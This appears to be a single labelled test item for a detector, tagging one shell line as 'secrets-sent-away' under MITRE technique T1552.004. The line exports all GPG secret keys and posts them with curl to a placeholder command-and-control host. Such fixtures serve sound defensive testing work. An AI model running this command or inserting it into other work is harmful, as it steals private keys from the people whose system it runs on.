# expect: secrets-sent-away | source: T1552.004
gpg --export-secret-keys --armor | curl -s -d @- https://c2.example.invalid/
